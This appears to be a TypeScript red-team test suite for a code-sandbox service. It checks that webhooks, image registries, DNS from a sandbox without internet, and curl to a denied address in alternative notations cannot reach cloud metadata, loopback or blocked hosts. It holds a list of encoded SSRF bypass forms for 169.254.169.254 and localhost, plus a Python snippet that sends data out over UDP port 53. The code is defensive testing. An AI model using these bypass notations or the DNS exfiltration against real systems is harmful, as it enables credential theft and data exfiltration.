import { setTimeout as sleep } from 'node:timers/promises';
import { Sandbox, Template } from 'e2b';
import { metadataAddress6, metadataAddresses, publicAddress } from '../addresses.ts';
import { Breach, refuseBreaches } from '../attempt.ts';
import type { Scene } from '../attempt.ts';
import type { World } from '../world.ts';
import { ask } from './raw.ts';

export const forbiddenHosts = [
  ...metadataAddresses,
  '2852039166',
  '0251.0376.0251.0376',
  '0xa9fea9fe',
  '169.254.43518',
  `[${metadataAddress6}]`,
  '[::ffff:169.254.169.254]',
  '[::ffff:a9fe:a9fe]',
  '[64:ff9b::a9fe:a9fe]',
  '127.0.0.1',
  '[::1]',
  '0.0.0.0',
  'localhost',
  'localhost.',
  '127.1',
  '0177.0.0.1',
  '198.18.0.1',
  '10.11.0.1',
];

/** Deliveries of webhooks leave the server, not a sandbox. The stand-in tells what arrived. */
async function callBack(world: World): Promise<string> {
  const { target, outside, host } = world;
  const headers = { 'x-api-key': target.apiKey, 'content-type': 'application/json' };
  const create = async (url: string) =>
    await ask(target.port, '/events/webhooks', {
      ...{ method: 'POST', headers },
      body: JSON.stringify({
        name: 'redteam',
        url,
        events: ['sandbox.lifecycle.created'],
        signatureSecret: 'redteam-secret',
      }),
    });
  const made: string[] = [];
  const note = (body: string): void => void made.push((JSON.parse(body) as { id: string }).id);
  await outside.forget();
  try {
    const control = await create(`http://${publicAddress}/control`);
    if (control.status !== 201) throw new Error(`a webhook to a public address returns ${control.status}`);
    note(control.body);
    for (const name of forbiddenHosts) {
      const answer = await create(`http://${name}/${host.word}`);
      if (answer.status === 201) note(answer.body);
    }
    const sandbox = await Sandbox.create();
    await sandbox.kill();
    const giveUpAt = Date.now() + 30_000;
    while (!(await outside.heard()).includes('/control') && Date.now() < giveUpAt) await sleep(50);
    await sleep(500);
    const heard = await outside.heard();
    refuseBreaches(heard.filter((text) => text.includes(host.word)).map((text) => `a forbidden address heard ${text}`));
    if (!heard.includes('/control')) throw new Error('the public address heard nothing either');
    return `${forbiddenHosts.length} addresses heard nothing; a public one did`;
  } finally {
    for (const id of made) await ask(target.port, `/events/webhooks/${id}`, { method: 'DELETE', headers });
  }
}

async function pullFrom({ outside, target }: World): Promise<string> {
  await outside.forget();
  const names = ['169.254.169.254', '100.100.100.200', '127.0.0.1:3000', 'localhost:5000', `[${metadataAddress6}]`];
  for (const name of names) {
    const built = await Template.build(Template().fromImage(`${name}/a/b:c`), `redteam-${String(Date.now())}`).then(
      () => true,
      () => false,
    );
    if (built) throw new Breach(`an image was built from ${name}`);
  }
  const heard = await outside.heard();
  if (heard.length > 0) throw new Breach(`a forbidden address heard ${heard.join(', ')}`);
  if ((await ask(target.port, '/health')).status !== 204) throw new Error('the server does not answer');
  return `${names.length} registries heard nothing`;
}

/** Decision of today: names are not filtered. What a policy closes is closed for DNS, too. */
async function tunnel(world: World): Promise<string> {
  const { outside } = world;
  const query = (label: string): string => `
import socket
for kind, host in ((socket.SOCK_DGRAM, '${publicAddress}'),):
  opened = socket.socket(socket.AF_INET, kind)
  opened.settimeout(1)
  opened.connect((host, 53))
  for part in range(5): opened.send(b'${label}-%d' % part)
  try: opened.recv(100)
  except OSError: pass
`;
  const send = async (sandbox: Sandbox, label: string): Promise<boolean> => {
    await outside.forget();
    await sandbox.files.write('/tmp/tunnel.py', query(label));
    await sandbox.commands.run('python3 /tmp/tunnel.py 2>/dev/null; true');
    await sleep(100);
    return (await outside.heard()).some((text) => text.includes(label));
  };
  return await world.withSandbox(
    async (closed) => {
      if (await send(closed, 'closed')) throw new Breach('a sandbox without internet sent data by DNS');
      if (!(await send(world.attacker, 'open'))) throw new Error('not even an open sandbox can send');
      return 'a sandbox without internet reaches no name server; one with internet does, which is not protected (docs/security.md)';
    },
    { allowInternetAccess: false },
  );
}

/** What a policy closes, by names and notations of an address that it does not list. */
async function leaveByPolicy(world: World): Promise<string> {
  const { outside, host } = world;
  return await world.withSandbox(
    async (sandbox) => {
      await outside.forget();
      const forms = [
        publicAddress,
        '759373342',
        '0x2d43591e',
        '055.0103.0131.036',
        `::ffff:${publicAddress}`,
        `[::ffff:2d43:591e]`,
      ];
      for (const form of forms)
        for (const user of ['user', 'root'])
          await sandbox.commands.run(`curl -gsS -m 1 --noproxy '*' 'http://${form}/${host.word}'; true`, { user });
      const heard = await outside.heard();
      if (heard.length > 0) throw new Breach(`the closed address heard ${heard.join(', ')}`);
      const open = await world.attacker.commands.run(`curl -gsS -m 3 --noproxy '*' http://${publicAddress}/control`);
      if (!open.stdout.startsWith('caller')) throw new Error('the open sandbox does not reach it either');
      return `${forms.length} notations are closed; an open sandbox reaches the address`;
    },
    { network: { denyOut: [`${publicAddress}/32`] } },
  );
}

const outsiders = { kind: 'scene', wall: 'namedAddresses', by: ['outside'] } as const;

export const namedAddresses: readonly Scene[] = [
  { ...outsiders, pace: 'quick', name: 'names forbidden addresses as webhooks, in every notation', run: callBack },
  { ...outsiders, pace: 'long', name: 'names forbidden addresses as registries', run: pullFrom },
  {
    kind: 'scene',
    wall: 'addresses',
    by: ['user'],
    pace: 'quick',
    name: 'sends data by DNS from a sandbox without internet',
    run: tunnel,
  },
  {
    kind: 'scene',
    wall: 'addresses',
    by: ['user', 'root'],
    pace: 'long',
    name: 'reaches a denied address in other notations',
    run: leaveByPolicy,
  },
];
